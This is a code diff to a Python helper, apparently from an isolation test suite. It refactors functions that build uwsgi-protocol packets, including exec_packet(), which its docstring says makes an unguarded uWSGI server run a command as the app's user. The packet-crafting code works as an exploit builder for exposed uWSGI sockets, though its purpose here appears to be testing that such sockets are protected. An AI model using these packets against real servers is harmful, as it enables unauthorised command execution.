@@ -7,6 +7,7 @@ Python is under /root, which other accounts cannot enter)."""
 from __future__ import annotations
 
 import json
+import struct
 import subprocess
 from pathlib import Path
 
@@ -56,18 +57,17 @@ def attempt(attempts: list[tuple[str, str | Path | int, str]], account: str = AT
     return results
 
 
-def uwsgi_packet(variables: dict[str, str]) -> str:
-    """A uwsgi-protocol request (4-byte header, then the variables), as hex for attempt()."""
-    import struct
-
+def uwsgi_packet(variables: dict[str, str]) -> bytes:
+    """A uwsgi-protocol request: a 4-byte header, then the CGI variables."""
     body = b"".join(
         struct.pack("<H", len(k)) + k.encode() + struct.pack("<H", len(v)) + v.encode() for k, v in variables.items()
     )
-    return (struct.pack("<BHB", 0, len(body), 0) + body).hex()
+    return struct.pack("<BHB", 0, len(body), 0) + body
 
 
 def exec_packet(marker: Path) -> str:
-    """The uwsgi packet that makes an unguarded uWSGI run a command as the app's user."""
+    """The uwsgi packet that makes an unguarded uWSGI run a command as the app's user (hex,
+    for attempt())."""
     return uwsgi_packet(
         {
             "REQUEST_METHOD": "GET",
@@ -80,7 +80,7 @@ def exec_packet(marker: Path) -> str:
             "UWSGI_APPID": "evil",
             "SCRIPT_NAME": "/evil",
         }
-    )
+    ).hex()
 
 
 def http_get(path: str, host: str) -> str:
